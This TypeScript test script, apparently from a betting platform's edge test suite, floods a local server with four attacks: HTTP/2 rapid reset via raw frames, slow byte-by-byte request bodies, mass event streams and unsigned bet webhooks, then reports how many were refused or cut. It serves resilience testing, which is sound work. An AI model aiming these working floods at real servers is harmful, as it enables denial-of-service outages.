import { type ClientHttp2Session, connect, constants } from 'node:http2';
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { PLAYER_HOST } from '../../scripts/edge/test-hosts.ts';

/**
 * What one hostile address sends, in a process of its own: `resets` cancels so many streams on each of two connections,
 * `bodies` writes byte by byte, `streams` opens event streams, `hooks` keeps so many unsigned bets under way.
 * `<kind> <port> <count> <seconds>`; it prints what became of them.
 */
const [kind = '', ...numbers] = process.argv.slice(2);
const [port = 0, count = 0, seconds = 0] = numbers.map(Number);
const ADDRESS = '127.0.0.50';
const STREAMS_PER_CONNECTION = 50;
const RESETS_PER_TURN = 100;
const TURN_MS = 20;
const endsAt = performance.now() + seconds * 1_000;
const counts = {
  kind,
  seconds: 0,
  connections: 0,
  cancelled: 0,
  bodiesCut: 0,
  streamsOpen: 0,
  streamsRefused: 0,
  hooks: 0,
};
const begun = performance.now();
const hasTime = () => performance.now() < endsAt;
const at = { host: '127.0.0.1', port, localAddress: ADDRESS, servername: PLAYER_HOST, rejectUnauthorized: false };

function openSession(): ClientHttp2Session {
  counts.connections += 1;
  return connect(`https://127.0.0.1:${port}`, at).on('error', () => undefined);
}

function get(session: ClientHttp2Session, path: string) {
  const head = { ':method': 'GET', ':path': path, ':authority': PLAYER_HOST, accept: 'text/event-stream' };
  return session.request(head).on('error', () => undefined);
}

interface FrameHead {
  readonly type: number;
  readonly flags?: number;
  readonly stream?: number;
}

/** Frames as bytes, because a library would wait for answers and windows. */
function frame({ type, flags = 0, stream = 0 }: FrameHead, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** `GET https` by the fixed table of HPACK, then path and authority as plain text. */
const textOf = (index: number, text: string) => Buffer.concat([Buffer.from([index, text.length]), Buffer.from(text)]);
const headBlock = Buffer.concat([Buffer.from([0x82, 0x87]), textOf(4, '/v1/api/home'), textOf(1, PLAYER_HOST)]);
const [HEADERS, RST_STREAM, SETTINGS] = [1, 3, 4];
const END_OF_STREAM_AND_HEADERS = 0x5;
const CANCEL = Buffer.from([0, 0, 0, constants.NGHTTP2_CANCEL]);
const askAndCancel = (stream: number) =>
  Buffer.concat([
    frame({ type: HEADERS, flags: END_OF_STREAM_AND_HEADERS, stream }, headBlock),
    frame({ type: RST_STREAM, stream }, CANCEL),
  ]);

/** A connection that the edge ends is opened again; one that it does not read any more is left. */
async function cancelStreams(): Promise<void> {
  for (let left = count; left > 0 && hasTime(); ) {
    counts.connections += 1;
    const socket = connectTls({ ...at, ALPNProtocols: ['h2'] }).on('error', () => undefined);
    socket.resume();
    socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
    socket.write(frame({ type: SETTINGS }, Buffer.alloc(0)));
    for (let stream = 1; left > 0 && hasTime() && !socket.destroyed && !socket.readableEnded; ) {
      const turn = Array.from({ length: Math.min(RESETS_PER_TURN, left) }, (_, at) => askAndCancel(stream + 2 * at));
      if (!socket.write(Buffer.concat(turn)))
        await Promise.race([once(socket, 'drain').catch(() => undefined), sleep(1_000)]);
      stream += 2 * turn.length;
      left -= turn.length;
      counts.cancelled += turn.length;
      await sleep(TURN_MS);
    }
    if (left === 0) await sleep(1_000);
    socket.destroy();
  }
}

/** One body after the other, none of which ends. */
async function writeBodies(): Promise<void> {
  while (hasTime()) {
    const socket = connectTls(at).on('error', () => undefined);
    const closed = new Promise((done) => socket.once('close', done));
    socket.write(`POST /v1/api/home HTTP/1.1\r\nHost: ${PLAYER_HOST}\r\nContent-Length: 60000\r\n\r\n`);
    const timer = setInterval(() => socket.write('x'), 1_000);
    socket.resume();
    await Promise.race([closed, sleep(Math.max(0, endsAt - performance.now()), undefined, { ref: false })]);
    clearInterval(timer);
    if (hasTime()) counts.bodiesCut += 1;
    await sleep(1_000);
  }
}

async function openStreams(): Promise<void> {
  for (let opened = 0; opened < count; opened += STREAMS_PER_CONNECTION) {
    const session = openSession();
    for (let one = 0; one < STREAMS_PER_CONNECTION; one += 1)
      get(session, '/v1/events').on('response', (head) => {
        if (head[':status'] === 200) counts.streamsOpen += 1;
        else counts.streamsRefused += 1;
      });
  }
  await sleep(Math.max(0, endsAt - performance.now()));
}

/** What a supplier would send, to the host of players and without a signature. */
async function callHooks(): Promise<void> {
  const body = '{"transactions":[{"type":"bet"}]}';
  const path = '/hooks/games/stranger/transaction/bet';
  const head = { ':method': 'POST', ':path': path, ':authority': PLAYER_HOST, 'content-length': `${body.length}` };
  const keepCalling = async (session: ClientHttp2Session) => {
    while (hasTime() && !session.destroyed && !session.closed) {
      const stream = session.request(head).on('error', () => undefined);
      const closed = new Promise((done) => stream.once('close', done));
      stream.resume().end(body);
      await closed;
      counts.hooks += 1;
    }
  };
  for (let opened = 0; opened < count; opened += STREAMS_PER_CONNECTION) {
    const session = openSession();
    for (let one = 0; one < STREAMS_PER_CONNECTION; one += 1) void keepCalling(session);
  }
  await sleep(Math.max(0, endsAt - performance.now()));
}

const kinds = {
  resets: () => Promise.all([cancelStreams(), cancelStreams()]),
  bodies: () => Promise.all(Array.from({ length: count }, writeBodies)),
  streams: openStreams,
  hooks: callHooks,
};
if (kind !== 'resets' && kind !== 'bodies' && kind !== 'streams' && kind !== 'hooks')
  throw new Error(`${kind} is no flood`);
await kinds[kind]();
counts.seconds = Math.round((performance.now() - begun) / 100) / 10;
console.log(JSON.stringify(counts));
process.exit();
